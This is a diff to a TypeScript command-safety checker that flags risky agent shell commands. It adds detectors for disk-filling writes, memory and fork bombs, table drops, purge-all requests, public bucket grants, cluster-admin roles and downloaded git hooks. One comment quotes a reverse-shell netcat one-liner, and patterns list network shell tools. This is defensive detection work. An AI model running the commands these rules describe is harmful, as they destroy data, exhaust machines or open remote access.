@@ -47,6 +47,7 @@ export const EFFECT_CLASSES: EffectClass[] = [
   { key: "security_change", description: "weaken or change a security module (AppArmor, SELinux, Secure Boot, kernel lockdown)" },
   { key: "service_change", description: "restart, reload or enable a system service, or end a user's session" },
   { key: "schedule_job", description: "schedule a command to run later (at, batch, systemd timers)" },
+  { key: "resource_exhaustion", description: "exhaust the machine's disk, memory or processes (huge or endless files, memory bombs, unbounded stress or fan-out)" },
   { key: "symlink_outside_workdir", description: "a path in the working directory that resolves, through a symlink, outside it" },
 ];
 
@@ -434,7 +435,21 @@ export function producedLiteral(p: Producer): string | null {
   return null;
 }
 
+/**
+ * ORM and driver calls that empty or drop tables whatever the language: Active Record `Model.delete_all` /
+ * `destroy_all` / `update_all` (a `where` before it limits it), Django `Model.objects.all().delete()`, SQLAlchemy
+ * `query(M).delete()` and `metadata.drop_all`, Prisma `deleteMany()`, Sequelize `destroy({truncate: true})`, Mongo drivers.
+ */
+function ormEffects(code: string): string[] {
+  const keys: string[] = [];
+  if (/\b[A-Z][\w:]*(?:\.(?:all|unscoped))?(?:\(\))?\.(?:delete_all|destroy_all)\b(?!\s*\(\s*[^)\s])/.test(code) || /\.objects(?:\.all\(\))?\.delete\(\)/.test(code) || /\.query\(\s*\w+\s*\)\.delete\(/.test(code) || /\.\w+\.deleteMany\(\s*(?:\{\s*\})?\s*\)/.test(code) || /\.destroy\(\s*\{\s*(?:where\s*:\s*\{\s*\}|truncate\s*:\s*true)/.test(code) || /\.(?:delete_many|remove)\(\s*\{\s*\}\s*\)/.test(code)) keys.push("sql_delete_without_where");
+  if (/\b[A-Z][\w:]*(?:\.all)?\.update_all\(/.test(code) || /\.objects(?:\.all\(\))?\.update\(/.test(code) || /\.\w+\.updateMany\(\s*\{\s*(?:data\b|\}\s*,)/.test(code)) keys.push("sql_update_without_where");
+  if (/\bmetadata\.drop_all\(|\.drop_(?:collection|database|table)\(|\.dropDatabase\(|\bdrop_table\b|\bsequelize\.drop\(|\.sync\(\s*\{\s*force\s*:\s*true|\bcall_command\(\s*['"](?:flush|reset_db)['"]/.test(code)) keys.push("sql_drop");
+  return keys;
+}
+
 function analyseInlineCode(lang: CodeLanguage, code: string, ctx: JudgeContext, literal = true, depth = 0): void {
+  for (const key of ormEffects(code)) add(ctx, key);
   for (const a of inlineCodeActions(lang, code, literal)) {
     switch (a.kind) {
       case "shell":
@@ -1185,6 +1200,7 @@ export function judgeCommand(ctx: JudgeContext): void {
 
   judgeEmbeddedCommands(ctx, name);
   judgeByEffect(ctx, name);
+  judgeWiderEffects(ctx, name);
 
   switch (name) {
     // mkdir of a scratch directory: the directory is the command line's own from then on (see madeHere).
@@ -1908,6 +1924,11 @@ function judgeHttpDelete(ctx: JudgeContext, name: string): void {
     const body = texts.filter((t, k) => /^-(?:d|-data(?:-raw|-binary|-ascii)?)$/.test(texts[k - 1] ?? "") || /^--data(?:-raw|-binary)?=/.test(t)).join(" ");
     if (!body || /match_all|"query"\s*:\s*\{\s*\}/.test(body) || /[?&]q=\*/.test(texts.join(" "))) return add(ctx, "http_delete");
   }
+  // A purge-everything body or endpoint, whatever the method: Solr `<delete><query>*:*</query></delete>` (or its JSON
+  // form), a CDN's `purge_everything` / `purge_all`, a queue's or cache's purge-all endpoint.
+  const joined = texts.join(" ");
+  if (/<delete>\s*<query>\s*\*:\*\s*<\/query>|"delete"\s*:\s*\{\s*"query"\s*:\s*"\*:\*"|stream\.body=<delete>/i.test(joined)) return add(ctx, "http_delete");
+  if (/"purge_everything"\s*:\s*true|purge_everything=true|\/purge_?all\b|\/purge-all\b|\/_flush_?all\b|\/flushall\b/i.test(joined)) return add(ctx, "cache_flush");
   if (!del) return;
   const urls = texts.filter((t) => /^(?:https?:\/\/|(?:localhost|\d+(?:\.\d+){3}|[\w-]+(?:\.[\w-]+)+|\$\{?\w+\}?)(?::\d+)?(?:\/|$))/i.test(t) || (name !== "curl" && name !== "wget" && /^:\d*\//.test(t)));
   if (!urls.length) return add(ctx, "http_delete");
@@ -1915,7 +1936,10 @@ function judgeHttpDelete(ctx: JudgeContext, name: string): void {
     const m = /^(?:https?:\/\/)?(?:[^@/]*@)?(\[[^\]]*\]|[^/:?#]*)(?::\d+)?([^?#]*)/i.exec(u.startsWith(":") ? `localhost${u}` : u)!;
     const host = m[1]!;
     const segments = m[2]!.split("/").filter(Boolean);
-    const whole = segments.length <= 1 || segments.some((s) => /[*,]|^_all$/.test(s));
+    // The last segment named right after a collection word (`/indexes/movies`, `/collections/docs`, `/v1/buckets/b`,
+    // `/zones/Z`, `/api/v2/databases/db`): the whole index, collection, bucket or database, not one of its items.
+    const container = /^(?:indexes|indices|index|collections|collection|buckets|bucket|databases|database|dbs|db|keyspaces|tables|zones|topics|queues|vhosts|exchanges|namespaces|projects|repos|repositories|schemas|clusters|volumes|snapshots|streams|datasets|spaces|tenants)$/i;
+    const whole = segments.length <= 1 || segments.some((s) => /[*,]|^_all$/.test(s)) || (segments.length >= 2 && container.test(segments[segments.length - 2]!));
     if (!LOCAL_HOST.test(host) || /\$/.test(u) || whole) return add(ctx, "http_delete");
   }
 }
@@ -2625,4 +2649,321 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
   }
   // A shell whose output goes to a network connection (`sh -i < /tmp/f 2>&1 | nc host 4242 > /tmp/f`): a reverse shell.
   if (/^(?:nc|ncat|netcat|socat|telnet|openssl|cryptcat|pwncat|pwncat-cs)$/.test(name) && ctx.producer && SHELLS.has(ctx.producer.name) && !ctx.producer.args.some((a) => /^-[A-Za-z]*c/.test(a.text) || !a.text.startsWith("-"))) add(ctx, "remote_access");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Less direct teardown, grants and exposure, resource exhaustion
+
+/** A size as `fallocate -l`, `truncate -s`, `dd bs=` write it (`800G`, `1T`, `10GiB`, `4096`), in bytes; NaN when unknown. */
+export function sizeBytes(s: string): number {
+  const m = /^\+?(\d+(?:\.\d+)?)\s*([kmgtpe]?)(i?b?)$/i.exec(s.trim());
+  if (!m) return NaN;
+  const unit = m[2]!.toLowerCase();
+  const base = m[3]!.toLowerCase() === "b" && unit ? 1000 : 1024;
+  return Number(m[1]) * base ** " kmgtpe".indexOf(unit || " ");
+}
+
+/** 64 GiB: a file this large (or larger) fills the disk of most machines an agent runs on. */
+const HUGE = 64 * 1024 ** 3;
+
+/** Endless byte sources. */
+const ENDLESS_DEVICE = /^\/dev\/(?:zero|u?random)$/;
+
+/** A process that only passes on a bounded prefix of its input (`head -c 10M`, `dd count=…`). */
+function bounds(name: string, args: JudgedArg[]): boolean {
+  if (name === "head" || name === "pv" && args.some((a) => /^-[a-zA-Z]*S$|^--stop-at-size$/.test(a.text))) return true;
+  if (name === "dd") return args.some((a) => /^(?:count|iflag=.*count_bytes)=/.test(a.text));
+  if (name === "sed") return args.some((a) => /^\d+q$|^-n$/.test(a.text));
+  if (name === "awk" || name === "gawk" || name === "mawk") return args.some((a) => /\bexit\b|NR\s*[<>=]/.test(a.text));
+  return false;
+}
+
+/** Whether the stream a command writes is endless: it reads an endless source and nothing on the way bounds it. */
+function endlessOutput(ctx: JudgeContext): boolean {
+  const { name, args } = ctx;
+  if (bounds(name, args)) return false;
+  if (name === "yes") return true;
+  if (/^(?:cat|tac|pv|tee|tr|base64|base32|xxd|od|hexdump|openssl|gzip|cat|strings|sort|uniq|cut)$/.test(name)) {
+    if (args.some((a) => ENDLESS_DEVICE.test(a.text) || /^(?:-in|--input)=?\/dev\/(?:zero|u?random)$/.test(a.text))) return true;
+    if (ctx.redirects.some((r) => r.op === "<" && ENDLESS_DEVICE.test(r.target))) return true;
+  }
+  if (name === "dd" && args.some((a) => /^if=\/dev\/(?:zero|u?random)$/.test(a.text))) return true;
+  // A stage fed by an endless producer, with nothing bounding it on the way.
+  let p = ctx.producer;
+  for (let guard = 0; p && guard < 8; guard++, p = p.before) {
+    if (bounds(p.name, p.args)) return false;
+    if (p.name === "yes" || (/^(?:cat|pv|dd|openssl|tr)$/.test(p.name) && p.args.some((a) => ENDLESS_DEVICE.test(a.text.replace(/^if=/, ""))))) return !/^(?:grep|wc|sha\d*sum|md5sum|cksum|b2sum|true|false|:|less|more)$/.test(name);
+  }
+  return false;
+}
+
+/** Gigabytes of inline code's allocations: huge single allocations, allocations in endless or enormous loops. */
+function memoryBomb(code: string): boolean {
+  const alloc = /\b(?:bytearray|bytes|bytes?\(|np\.(?:zeros|ones|empty|full)|numpy\.(?:zeros|ones|empty)|torch\.(?:zeros|ones|empty|randn?)|malloc|calloc|Buffer\.(?:alloc\w*)|new\s+(?:Array|ArrayBuffer|Uint8Array|Float64Array)|make\(\[\]|' '\s*\*|"\s*"\s*\*|'x'\s*\*|"x"\s*\*|\[0\]\s*\*|\.repeat\(|\*\s*\(?\s*1\s*<<|'a'\s*\*|"a"\s*\*|b'\\x00'\s*\*|b"\\0"\s*\*)/;
+  if (!alloc.test(code)) return false;
+  // Magnitudes written in the code: 1<<N, 2**N, 10**N, NeM, plain integers.
+  let log2 = 0;
+  const mags: number[] = [];
+  for (const m of code.matchAll(/\b(\d+)\s*<<\s*(\d+)|\b(\d+)\s*\*\*\s*(\d+)|\b(\d+(?:\.\d+)?)[eE](\d+)|\b(\d{6,})\b/g)) {
+    const v = m[1] ? Math.log2(Number(m[1])) + Number(m[2]) : m[3] ? Number(m[4]) * Math.log2(Number(m[3])) : m[5] ? Math.log2(Number(m[5])) + Number(m[6]) * Math.log2(10) : Math.log2(Number(m[7]));
+    if (v >= 16) mags.push(v);
+  }
+  mags.sort((a, b) => b - a);
+  log2 = (mags[0] ?? 0) + (mags[1] ?? 0);
+  if (log2 >= 36) return true; // 64 GiB or more
+  // An allocation appended on every turn of an endless loop.
+  return /\bwhile\s*\(?\s*(?:True|1|true)\s*\)?\s*[:{]|\bfor\s*\(\s*;\s*;\s*\)|\bloop\s+do\b|\bfor\s*\{/.test(code) && /\.(?:append|push|extend)\(|\+=/.test(code);
+}
+
+function judgeWiderEffects(ctx: JudgeContext, name: string): void {
+  const args = ctx.args;
+  const texts = args.map((a) => a.text);
+  const words = sub(args);
+  const low = texts.map((t) => t.toLowerCase());
+  const has = (...xs: string[]) => xs.some((x) => low.includes(x) || low.some((a) => a.startsWith(x + "=")));
+  const valueOf = (...opts: string[]): string | undefined => {
+    for (let k = 0; k < texts.length; k++) {
+      for (const o of opts) {
+        if (texts[k] === o) return texts[k + 1];
+        if ((o.startsWith("--") || o.length > 2) && texts[k]!.startsWith(o + "=")) return texts[k]!.slice(o.length + 1);
+        if (!o.startsWith("--") && o.length === 2 && texts[k]!.startsWith(o) && texts[k]!.length > 2 && !texts[k]!.startsWith("--")) return texts[k]!.slice(2);
+      }
+    }
+    return undefined;
+  };
+
+  // Resource exhaustion: an endless stream written to a file (or kept in the background), files of enormous sizes.
+  if (ctx.redirects.some((r) => /^(?:>|>>|&>|&>>)$/.test(r.op) && (!r.fd || r.fd === "1" || r.op.startsWith("&")) && whereIn(ctx, r.target) !== "sink" && whereIn(ctx, r.target) !== "device" && r.body === undefined) && endlessOutput(ctx)) add(ctx, "resource_exhaustion");
+  if (name === "tee" && endlessOutput(ctx) && operands(args).some((o) => whereIn(ctx, o.text) !== "sink")) add(ctx, "resource_exhaustion");
+  if (name === "fallocate" || name === "truncate" || name === "mkfile" || name === "xfs_mkfile") {
+    const size = name === "fallocate" ? valueOf("-l", "--length") : name === "truncate" ? valueOf("-s", "--size") : operands(args)[0]?.text;
+    if (size !== undefined && sizeBytes(size) >= HUGE) add(ctx, "resource_exhaustion");
+  }
+  if (name === "dd") {
+    const of = texts.find((t) => t.startsWith("of="))?.slice(3);
+    const bs = sizeBytes(texts.find((t) => /^(?:bs|obs)=/.test(t))?.replace(/^\w+=/, "") ?? "512");
+    const count = texts.find((t) => t.startsWith("count="))?.slice(6);
+    const seek = texts.find((t) => /^(?:seek|oseek)=/.test(t))?.replace(/^\w+=/, "");
+    if (of !== undefined && whereIn(ctx, of) !== "sink" && whereIn(ctx, of) !== "device") {
+      if (count === undefined && texts.some((t) => /^if=\/dev\/(?:zero|u?random)$/.test(t))) add(ctx, "resource_exhaustion");
+      else if (count !== undefined && bs * sizeBytes(count) >= HUGE) add(ctx, "resource_exhaustion");
+      else if (seek !== undefined && bs * sizeBytes(seek) >= HUGE && !texts.some((t) => /conv=.*sparse/.test(t)) && count !== "0") add(ctx, "resource_exhaustion");
+    }
+  }
+  if (name === "head" && ctx.redirects.some((r) => /^>/.test(r.op) && whereIn(ctx, r.target) !== "sink")) {
+    const c = valueOf("-c", "--bytes");
+    if (c !== undefined && sizeBytes(c) >= HUGE) add(ctx, "resource_exhaustion");
+  }
+  // stress tools: unbounded in time, or filling every CPU's worth of memory.
+  if (name === "stress-ng" || name === "stress") {
+    if (has("-h", "--help", "--version", "-V", "--class", "--list")) return;
+    const timeout = valueOf("-t", "--timeout");
+    const endless = timeout === undefined || /^0+[smhdy]?$/.test(timeout);
+    const vmBytes = valueOf("--vm-bytes");
+    const fills = vmBytes !== undefined && (/%$/.test(vmBytes) ? parseFloat(vmBytes) >= 75 : sizeBytes(vmBytes) * Math.max(1, Number(valueOf("--vm", "-m") ?? 1)) >= 16 * 1024 ** 3);
+    const many = texts.some((t, k) => /^--(?:cpu|vm|hdd|io|fork|malloc|matrix|all|sequential)$|^-[cmdi]$/.test(t) && /^\d+$/.test(texts[k + 1] ?? "") && (Number(texts[k + 1]) === 0 || Number(texts[k + 1]) >= 32));
+    const seconds = timeout === undefined ? Infinity : parseFloat(timeout) * ({ s: 1, m: 60, h: 3600, d: 86400, y: 31536000 }[timeout.replace(/^[\d.]+/, "") || "s"] ?? 1);
+    if (endless || fills || (many && seconds > 60) || seconds > 3600) add(ctx, "resource_exhaustion");
+  }
+
+  switch (name) {
+    // Teardown through a saved plan, complete-mode deployments, cluster resets.
+    case "terraform":
+    case "tofu":
+    case "terragrunt": {
+      const out = valueOf("-out", "--out");
+      if (words[0] === "plan" && has("-destroy", "--destroy") && out !== undefined && ctx.created.size < 64) ctx.created.add(`tf-destroy-plan:${posix.normalize(out)}`);
+      if (words[0] === "apply" && words.slice(1).some((w) => ctx.created.has(`tf-destroy-plan:${posix.normalize(w)}`))) add(ctx, "infra_teardown");
+      return;
+    }
+    case "az":
+      if (words[0] === "deployment" && words.includes("create") && /^complete$/i.test(valueOf("--mode") ?? "")) return add(ctx, "infra_teardown");
+      if (words[0] === "group" && words[1] === "deployment" && /^complete$/i.test(valueOf("--mode") ?? "")) return add(ctx, "infra_teardown");
+      if (words[0] === "storage" && words.includes("set-permission") && /^(?:blob|container)$/i.test(valueOf("--public-access") ?? "")) return add(ctx, "privilege_grant");
+      if (words[0] === "storage" && words[1] === "account" && /^true$/i.test(valueOf("--allow-blob-public-access") ?? "")) return add(ctx, "privilege_grant");
+      if (words[0] === "storage" && words[1] === "container" && words[2] === "create" && /^(?:blob|container)$/i.test(valueOf("--public-access") ?? "")) return add(ctx, "privilege_grant");
+      return;
+    case "kubeadm":
+      if (words[0] === "reset" && !has("--dry-run")) return add(ctx, "cluster_teardown");
+      return;
+    case "k3s-uninstall.sh":
+    case "k3s-agent-uninstall.sh":
+    case "rke2-uninstall.sh":
+      return add(ctx, "cluster_teardown");
+    // The initramfs and boot images: rebuilt for every kernel, the next boot depends on them.
+    case "update-initramfs":
+      if (has("-u", "-c", "-d", "-k")) add(ctx, "boot_config");
+      return;
+    case "mkinitcpio":
+      if (has("-p", "-P", "--allpresets", "--preset", "-g", "--generate")) add(ctx, "boot_config");
+      return;
+    case "dracut":
+      if (!has("--list-modules", "-h", "--help", "--print-cmdline")) add(ctx, "boot_config");
+      return;
+    case "kernelstub":
+    case "bootctl":
+      if (name === "bootctl" && !/^(?:install|update|remove|set-default|set-oneshot|unlink|cleanup)$/.test(words[0] ?? "")) return;
+      add(ctx, "boot_config");
+      return;
+    // Every scheduled job removed (`atrm $(atq | cut -f1)`, a loop over atq).
+    case "atrm":
+      if (ctx.viaXargs || args.some((a) => !a.literal || /\$|`/.test(a.text))) add(ctx, "crontab_remove");
+      return;
+    // Buckets made public.
+    case "aws":
+      if (words[0] === "s3api" && /^put-(?:bucket|object)-acl$/.test(words[1] ?? "") && /^(?:public-read|public-read-write|authenticated-read)$/.test(valueOf("--acl") ?? "")) return add(ctx, "privilege_grant");
+      if (words[0] === "s3api" && texts.some((t) => /acs\.amazonaws\.com\/groups\/global\/(?:AllUsers|AuthenticatedUsers)/.test(t))) return add(ctx, "privilege_grant");
+      if (words[0] === "s3api" && words[1] === "delete-public-access-block") return add(ctx, "privilege_grant");
+      if (words[0] === "s3api" && words[1] === "put-public-access-block" && texts.some((t) => /Block\w*=false|"Block\w*"\s*:\s*false/i.test(t))) return add(ctx, "privilege_grant");
+      if (words[0] === "s3api" && words[1] === "put-bucket-policy" && texts.some((t) => /"Principal"\s*:\s*(?:"\*"|\{\s*"AWS"\s*:\s*"\*")/.test(t) && /"Effect"\s*:\s*"Allow"/.test(t))) return add(ctx, "privilege_grant");
+      if (words[0] === "s3" && words.some((w) => w === "cp" || w === "sync") && /^public-read(?:-write)?$/.test(valueOf("--acl") ?? "")) return;
+      return;
+    case "gsutil":
+    case "gcloud":
+      if (texts.some((t) => /(?:^|[\s:=,])(?:allUsers|allAuthenticatedUsers|AllUsers|AllAuthenticatedUsers)(?::|$)/.test(t) || /^(?:member=)?(?:allUsers|allAuthenticatedUsers)$/.test(t) || /^--member=(?:allUsers|allAuthenticatedUsers)$/.test(t))) {
+        if (name === "gsutil" && !/^(?:iam|acl|defacl)$/.test(words[0] ?? "")) return;
+        if (name === "gsutil" && (words[1] === "get" || words[1] === "get-default")) return;
+        return add(ctx, "privilege_grant");
+      }
+      return;
+    // GitHub API: admin rights granted, a protected branch force-moved or its protection removed.
+    case "gh":
+      if (words[0] === "api") {
+        const method = (valueOf("-X", "--method") ?? "").toUpperCase();
+        const path = words.slice(1).find((w) => /\//.test(w)) ?? "";
+        const fields = texts.filter((t, k) => /^-(?:f|F)$|^--(?:field|raw-field)$/.test(texts[k - 1] ?? "") || /^--(?:field|raw-field)=/.test(t)).map((t) => t.replace(/^--(?:raw-)?field=/, ""));
+        if (/\/(?:collaborators|memberships|teams\/[^/]+\/repos|invitations|members)\b/.test(path) && fields.some((f) => /^(?:permission|role)=(?:admin|maintain|owner)$/i.test(f))) return add(ctx, "privilege_grant");
+        const ref = /\/git\/refs\/(?:heads\/)?(.+)$/.exec(path)?.[1];
+        if (ref !== undefined && PROTECTED_BRANCH.test(ref) && ((method === "PATCH" && fields.some((f) => /^force=true$/i.test(f))) || method === "DELETE")) return add(ctx, "git_force_push");
+        if (/\/branches\/[^/]+\/protection\b/.test(path) && method === "DELETE") return add(ctx, "security_change");
+      }
+      return;
+    // Kubernetes roles widened to every verb or resource, or bound to cluster-admin.
+    case "kubectl":
+    case "oc": {
+      const target = words.slice(1).join(" ");
+      if (/^(?:patch|edit|apply|replace|set)$/.test(words[0] ?? "") && /\b(?:clusterrole|clusterrolebinding|role|rolebinding)s?(?:\.rbac\.authorization\.k8s\.io)?\b/.test(target) && texts.some((t) => /"(?:verbs|resources|apiGroups)"\s*:\s*\[[^\]]*"\*"|(?:verbs|resources):\s*\[?\s*["']?\*|cluster-admin/.test(t))) return add(ctx, "privilege_grant");
+      if (words[0] === "create" && /^(?:clusterrole|role)$/.test(words[1] ?? "") && texts.some((t) => /^--(?:verb|resource)=["']?\*/.test(t))) return add(ctx, "privilege_grant");
+      // A cluster service forwarded on every interface: anyone on the network reaches it.
+      if (words[0] === "port-forward") {
+        const addr = valueOf("--address");
+        if (addr !== undefined && addr.split(",").some((a) => !/^(?:localhost|127(?:\.\d+){3}|::1)$/.test(a.trim()))) return add(ctx, "remote_access");
+      }
+      return;
+    }
+    case "gpg":
+    case "gpg2":
+      if (texts.some((t) => /^--delete-(?:secret-)?(?:and-public-)?keys?$/.test(t)) && !has("--delete-secret-keys", "--delete-secret-and-public-keys", "--delete-keys", "--delete-key", "--delete-secret-key")) {
+        const home = valueOf("--homedir");
+        if (home === undefined || !isInsideLike(whereIn(ctx, home))) add(ctx, "credential_write");
+      }
+      return;
+  }
+
+  // Git hooks: a hooks directory set to one this command line fills with downloaded files, or a downloaded file put
+  // into .git/hooks, runs on the next commit, merge, checkout or push.
+  if (name === "git") {
+    if (words[0] === "config" && /^core\.hookspath$/i.test(words.find((w) => !/^--/.test(w) && w !== "config") ?? "")) {
+      const dir = words[words.length - 1];
+      if (dir && ctx.created.size < 64) ctx.created.add(`hooks:${fetchKey(ctx, dir).replace(/\/*$/, "/")}`);
+    }
+    const hookDirs = [...ctx.created].filter((c) => c.startsWith("hooks:")).map((c) => c.slice(6));
+    if (/^(?:commit|merge|checkout|switch|pull|push|rebase|am|cherry-pick|revert|reset|clone|worktree)$/.test(words[0] ?? "")) {
+      for (const f of ctx.fetched) if (/(?:^|\/)\.git\/hooks\/[^/]+$/.test(f) || hookDirs.some((d) => f.startsWith(d))) return add(ctx, "remote_code_exec");
+    }
+  }
+  // `npm pkg set scripts.postinstall=CMD` (`npm set-script X CMD`): a script npm runs later, judged as a command now.
+  if ((name === "npm" || name === "pnpm") && words[0] === "pkg" && words[1] === "set") {
+    for (const w of words.slice(2)) {
+      const m = /^scripts\.[\w:-]+=(.*)$/s.exec(w);
+      if (m) ctx.analyseShell(m[1]!);
+    }
+  }
+  if (name === "npm" && words[0] === "set-script" && words[2] !== undefined) ctx.analyseShell(words.slice(2).join(" "));
+  // `rails runner CODE` (`bin/rails r`), `python manage.py shell -c CODE` (or its stdin): application code, ORM calls included.
+  if ((name === "rails" || name === "rails-runner") && /^(?:runner|r)$/.test(words[0] ?? "")) {
+    const code = operands(args, "e", ["--environment"])[1]?.text;
+    if (code !== undefined) {
+      if (/^[\w./-]+\.rb$/.test(code)) {
+        const written = writtenScript(ctx, code);
+        if (written !== undefined && written !== null) analyseInlineCode("ruby", written, ctx);
+      } else analyseInlineCode("ruby", code, ctx, args.find((a) => a.text === code)?.literal !== false);
+    }
+  }
+  if (interpreterLanguage(name) === "python" && texts.some((t) => /(?:^|\/)manage\.py$/.test(t)) && texts.some((t) => t === "shell" || t === "shell_plus")) {
+    const c = texts.findIndex((t) => t === "-c" || t === "--command");
+    const code = c >= 0 ? texts[c + 1] : texts.find((t) => t.startsWith("--command="))?.slice(10) ?? ctx.redirects.find((r) => r.body !== undefined)?.body;
+    if (code !== undefined) analyseInlineCode("python", code, ctx);
+  }
+  // SQL read from a file this command line wrote (`psql -f x.sql`, `mysql db < x.sql`, `sqlite3 db '.read x.sql'`).
+  if (/^(?:psql|mysql|mariadb|sqlite3|sqlite|duckdb|clickhouse-client|cockroach|sqlcmd)$/.test(name)) {
+    const files = [valueOf("-f", "--file", "-i", "--input-file", "--queries-file"), ...ctx.redirects.filter((r) => r.op === "<" && r.body === undefined).map((r) => r.target), ...texts.map((t) => /^\.read\s+(\S+)$/.exec(t)?.[1])];
+    for (const f of files) {
+      if (f === undefined) continue;
+      const sql = writtenScript(ctx, f);
+      if (typeof sql === "string" && !sqliteInWorkdir(ctx, name, sql)) for (const key of judgeSql(sql)) add(ctx, key);
+    }
+  }
+  // `go run FILE.go` of a file written on this command line: its code is what runs.
+  if (name === "go" && words[0] === "run") {
+    for (const f of texts.slice(1).filter((w) => /\.go$/.test(w))) {
+      const code = writtenScript(ctx, f);
+      if (typeof code === "string") judgeGoCode(ctx, code);
+    }
+  }
+
+  // A file server serving a system or home directory on every interface.
+  const lang = interpreterLanguage(name);
+  if (lang === "python") {
+    const m = texts.findIndex((t) => t === "-m");
+    if (m >= 0 && /^(?:http\.server|SimpleHTTPServer|uploadserver|updog)$/.test(texts[m + 1] ?? "")) {
+      const rest = texts.slice(m + 2);
+      const dirIdx = rest.findIndex((t) => t === "-d" || t === "--directory");
+      const dir = dirIdx >= 0 ? rest[dirIdx + 1] : rest.find((t) => t.startsWith("--directory="))?.slice(12);
+      const bIdx = rest.findIndex((t) => t === "-b" || t === "--bind");
+      const bind = bIdx >= 0 ? rest[bIdx + 1] : undefined;
+      const local = bind !== undefined && /^(?:localhost|127(?:\.\d+){3}|::1)$/.test(bind);
+      const served = dir ?? ctx.cwd;
+      const w = whereIn(ctx, served);
+      if (!local && (w === "system" || w === "credential" || w === "home" || posix.normalize(served) === "/" || (w === "outside" && SYSTEM_TOP.test(served)))) add(ctx, "remote_access");
+    }
+  }
+  if (lang === "php") {
+    const s = texts.findIndex((t) => t === "-S");
+    const t = texts.findIndex((x) => x === "-t");
+    if (s >= 0 && t >= 0 && !/^(?:localhost|127\.)/.test(texts[s + 1] ?? "")) {
+      const w = whereIn(ctx, texts[t + 1] ?? "");
+      if (w === "system" || w === "credential" || w === "home" || texts[t + 1] === "/") add(ctx, "remote_access");
+    }
+  }
+  if (lang && lang !== "awk") {
+    const code = args.find((a, k) => k > 0 && /^-[A-Za-z]*[ceE]$|^--eval$/.test(texts[k - 1]!))?.text;
+    if (code !== undefined && memoryBomb(code)) add(ctx, "resource_exhaustion");
+  }
+}
+
+/** Go source: file-system calls on literal paths, commands it runs, itself spawned in an endless loop, memory bombs. */
+function judgeGoCode(ctx: JudgeContext, code: string): void {
+  const str = String.raw`"((?:[^"\\]|\\.)*)"|` + "`([^`]*)`";
+  for (const m of code.matchAll(new RegExp(String.raw`\bos\.(RemoveAll|Remove|WriteFile|Create|Truncate|Rename|Chmod|Chown|OpenFile)\(\s*(?:${str})`, "g"))) {
+    const path = m[2] ?? m[3] ?? "";
+    if (m[1] === "RemoveAll" || m[1] === "Remove") judgeDelete(ctx, path, m[1] === "RemoveAll");
+    else if (m[1] === "Rename") judgeMove(ctx, [path], undefined);
+    else if (m[1] === "Chmod" || m[1] === "Chown") {
+      const w = whereIn(ctx, path);
+      if (w === "system" || w === "credential") add(ctx, "chmod_chown_system");
+      else if (w === "outside" || w === "home") add(ctx, "chmod_outside_workdir");
+    } else judgeOverwrite(ctx, path);
+  }
+  if (/\bos\.(?:RemoveAll|Remove|WriteFile|Rename)\(\s*[A-Za-z_]/.test(code)) add(ctx, "inline_code_unanalysable");
+  for (const m of code.matchAll(/\bexec\.Command(?:Context)?\(\s*(?:ctx\s*,\s*)?([^)]*)\)/g)) {
+    const words = [...m[1]!.matchAll(/"((?:[^"\\]|\\.)*)"|`([^`]*)`/g)].map((x) => x[1] ?? x[2] ?? "");
+    if (words.length && /^(?:\/bin\/)?(?:ba|da|z)?sh$/.test(words[0]!) && words[1] === "-c" && words[2] !== undefined) ctx.analyseShell(words[2]);
+    else if (words.length && !/\/proc\/self\/exe/.test(words[0]!)) ctx.analyseShell(words.map((w) => `'${w.replace(/'/g, "'\\''")}'`).join(" "));
+  }
+  // The program started again by itself (its own executable), or any process started on every turn of an endless loop.
+  const spawnsSelf = /\/proc\/self\/exe|os\.Args\[0\]|os\.Executable\(\)/.test(code) && /\bexec\.Command|\bos\.StartProcess|\bsyscall\.(?:ForkExec|Exec)/.test(code);
+  const endlessSpawn = /\bfor\s*\{[^}]*(?:exec\.Command[^}]*\.Start\(\)|os\.StartProcess|syscall\.ForkExec|go\s+func)/s.test(code);
+  if (spawnsSelf || endlessSpawn) add(ctx, "fork_bomb");
+  if (memoryBomb(code)) add(ctx, "resource_exhaustion");
 }
